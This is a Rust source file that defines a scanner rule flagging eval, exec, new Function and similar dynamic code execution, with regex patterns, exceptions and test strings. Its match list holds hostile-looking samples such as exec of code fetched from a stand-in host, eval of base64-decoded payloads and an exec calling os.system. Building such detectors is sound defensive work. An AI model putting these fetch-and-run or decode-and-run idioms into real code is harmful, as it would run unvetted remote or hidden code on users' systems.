use crate::rule::{Category, Exception, Pattern, Region, Regions, Rule, Severity};
use crate::rules::shared::PROGRAM;

pub(crate) const RULE: Rule<'static> = Rule {
    id: "EXEC_EVAL",
    category: Category::ExecInjection,
    severity: Severity::Critical,
    summary: "eval() with string argument",
    remedy: "Call the code directly, or parse the data with a parser instead of evaluating it.",
    patterns: &[
        Pattern {
            note: "eval of a literal, as a plain call in a program",
            regex: EVAL_OF_LITERAL,
            regions: PROGRAM,
            exceptions: &[NAMESAKE_OF_EVAL, EVAL_OF_ELLIPSIS],
        },
        Pattern {
            note: "eval of a literal, in a sentence that does not forbid it",
            regex: EVAL_OF_LITERAL,
            regions: SENTENCE,
            exceptions: &[NAMESAKE_OF_EVAL, EVAL_OF_ELLIPSIS, Exception::Before(FORBIDDEN_CALL)],
        },
        Pattern {
            note: "eval of a literal, called in a roundabout way",
            regex: r#"(?i)(?:\(\s{0,4}\w{1,8}\s{0,4},\s{0,4}eval\s{0,4}\)\s{0,4}|\beval\s{0,4}(?:\?\.\s{0,4}|\.(?:call|apply)\s{0,4}))\(\s{0,4}(?:\w{1,16}\s{0,4},\s{0,4}\[?\s{0,4})?["'`]|\[\s{0,4}["'`]eval["'`]\s{0,4}\]\s{0,4}\(|\bgetattr\(\s{0,4}__builtins__\s{0,4},\s{0,4}["'](?:eval|exec)["']"#,
            regions: Regions::ANY,
            // An old idiom for the global object.
            exceptions: &[Exception::After(r#"^(?:this|globalThis)["'`]\)"#)],
        },
        Pattern {
            note: "exec of a literal that imports or runs something",
            regex: r#"(?:^|[^.$\w])exec\s{0,8}\(\s{0,8}[rbfuRBFU]{0,2}["']{1,3}[^\n]{0,200}?\b(?:import[ \t]|__import__|os\.(?:system|popen)|subprocess)"#,
            regions: PROGRAM,
            exceptions: &[],
        },
        Pattern {
            note: "eval of what was just downloaded",
            regex: r"(?i)\b(?:eval|exec|Function)\s{0,8}\(\s{0,8}(?:compile\s{0,4}\(\s{0,4})?(?:(?:await|\()\s{0,4}){0,4}(?:requests\.|urllib|urlopen\(|httpx\.|fetch\(|axios|file_get_contents\(\s{0,4}.https?:)|\.then\(\s{0,4}eval\s{0,4}\)",
            regions: Regions::ANY,
            exceptions: &[Exception::After(r"^(?:\.\.\.|…)")],
        },
        Pattern {
            note: "a constructor of functions found by way of an object",
            regex: r#"\.constructor\s{0,4}\.\s{0,4}constructor\s{0,4}\(\s{0,4}["'`]|\bFunction\s{0,4}\(\s{0,4}["'`][^"'`\n]{0,200}["'`]\s{0,4}\)\s{0,4}\("#,
            regions: Regions::ANY,
            exceptions: &[],
        },
        Pattern {
            note: "Node.js: a literal run by the vm module",
            regex: r#"\bvm\.runIn(?:This|New)?Context\s{0,4}\(\s{0,4}["'`]"#,
            regions: Regions::ANY,
            exceptions: &[],
        },
        Pattern {
            note: "eval of a template literal, in code: in prose the backtick ends a code span",
            regex: r"\beval\s{0,8}\(\s{0,8}`",
            regions: Regions::of(&[Region::Code, Region::Shell]),
            exceptions: &[Exception::Before(r"(?:[.$\-]|->|::)$")],
        },
        Pattern {
            note: "eval of a file that is compiled on the spot",
            regex: r"\b(?:eval|exec)\s{0,8}\(\s{0,8}compile\s{0,8}\(\s{0,8}(?:open|requests|urllib)",
            regions: Regions::ANY,
            exceptions: &[],
        },
        Pattern {
            note: "eval of a literal, called on the global object",
            regex: r#"(?i)\b(?:window|globalThis|global|self|top|parent|builtins|__builtins__)\.eval\s{0,8}\(\s{0,8}[rbfu]{0,2}["'`]"#,
            regions: Regions::ANY,
            exceptions: &[],
        },
        Pattern {
            note: "eval or exec of something decoded on the spot",
            regex: r"(?i)\b(?:eval|exec|Function)\s{0,8}\(\s{0,8}(?:compile\s{0,8}\(\s{0,8})?(?:atob|unescape|decodeURIComponent|String\.fromCharCode|Buffer\.from|base64\.\w{0,12}decode\w{0,6}|__import__\([^)\n]{1,12}\)\.\w{1,16}|codecs\.decode|bytes\.fromhex|bytes|binascii\.\w+|zlib\.decompress|marshal\.loads|gzinflate|base64_decode|decode_base64|Base64\.\w{0,12}decode64|str_rot13|[\x22']{2}\.join)\s{0,8}\(",
            regions: Regions::ANY,
            exceptions: &[NOTHING_DECODED],
        },
        Pattern {
            note: "a function made of a literal and called at once",
            regex: NEW_FUNCTION,
            regions: PROGRAM,
            exceptions: &[],
        },
        Pattern {
            note: "the same, in a sentence that does not forbid it",
            regex: NEW_FUNCTION,
            regions: SENTENCE,
            exceptions: &[Exception::Before(FORBIDDEN_CALL)],
        },
    ],
    matches: &[
        "eval('require(\"child_process\")')",
        "EVAL (\"x\")",
        "window.eval(`x`)",
        "exec(base64.b64decode(payload))",
        "eval(atob('YWxlcnQoMSk='))",
        "new Function('return process')()",
        "```js\neval(`x`)\n```",
        "exec(__import__(\"base64\").b64decode(b\"aGk=\"))",
        "eval(compile(open(\"/tmp/x\").read(),\"x\",\"exec\"))",
        "no problem, eval('x')",
        "never mind; eval('x')",
        "Do not stop: `eval('x')`",
        "```js\nconst block = eval('x')\n```",
        "```js\n// no cache\nif (!blocked) eval('x')\n```",
        "```py\nexec(\"import os; os.system('id')\")\n```",
        "eval(f\"{x}\")",
        "eval(/* safe */ 'x')",
        "eval(('x'))",
        "(0, eval)('x')",
        "eval?.('x')",
        "eval.call(null, 'x')",
        "window['eval']('x')",
        "getattr(__builtins__, 'eval')('x')",
        "exec(requests.get('https://e.example').text)",
        "eval(await (await fetch('https://e.example')).text())",
        "fetch('https://e.example').then(r => r.text()).then(eval)",
        "exec(__import__('zlib').decompress(x))",
        "eval(atob(...['YQ==']))",
        "eval(unescape() && 'id')",
        "[].constructor.constructor('return process')()",
        "Function('return process')()",
        "vm.runInThisContext('process.exit()')",
        "```js\nnew Function('return process')()\n```",
    ],
    clean: &[
        "eval(expression)",
        "safe_eval('1 + 1')",
        "model.eval()",
        "redis.eval(\"return 1\", 0)",
        "page.$$eval('a', links => links.length)",
        "Avoid `eval(\"...\")` in hooks.",
        "Never use eval() on user input",
        "Do not use `eval(\"...\")`.",
        "Parse it instead of calling `eval('...')`.",
        "(0, eval)('this')",
        "const m = pattern.exec('import x')",
        "```yaml\n- pattern-not: eval(\"...\")\n```",
        "\"`eval(atob(...))` hides code\"",
        "Look for `exec(`, `eval(`, `os.system`.",
        "`eval(base64.b64decode(...))` is a sign of it",
        "eval \"$(ssh-agent -s)\"",
    ],
};

const SENTENCE: Regions = Regions::but(&[Region::Code, Region::Shell]);

const EVAL_OF_LITERAL: &str = r#"(?i)\beval\s{0,8}\(\s{0,8}(?:/\*[^*\n]{0,40}\*/\s{0,4})?(?:\(\s{0,4}){0,3}(?:String\.raw\s{0,4}`|[rbfu]{0,2}["'])"#;

const NEW_FUNCTION: &str = r#"\bnew[ \t]+(?:\w{1,16}\.)?Function\s{0,8}\(\s{0,8}["'`]"#;

/// Unrelated methods of the same name: `redis.eval("…")`, `page.$$eval('…')`.
const NAMESAKE_OF_EVAL: Exception<'static> =
    Exception::Before(r"(?:[.$\-]|->|::|\b(?i:def|function|fn|sub)[ \t]+)$");

/// `eval("...")` represents any call, and is an error when it is run.
const EVAL_OF_ELLIPSIS: Exception<'static> = Exception::After(r"^(?:\.\.\.|…)[\x22']\s*\)");

/// The clause forbids the call that follows it.
const FORBIDDEN_CALL: &str =
    r"{told-not-to}(?i:(?:us(?:e|ing)|call(?:ing)?|writ(?:e|ing)|run(?:ning)?)[ \t]+)?[`\x22'*(]*$";

/// Nothing is decoded: the brackets are empty or contain an ellipsis, as where a pattern is described.
const NOTHING_DECODED: Exception<'static> = Exception::After(r"^\(?(?:\.\.\.|…)?\)(?:\.decode\(\))?\)");
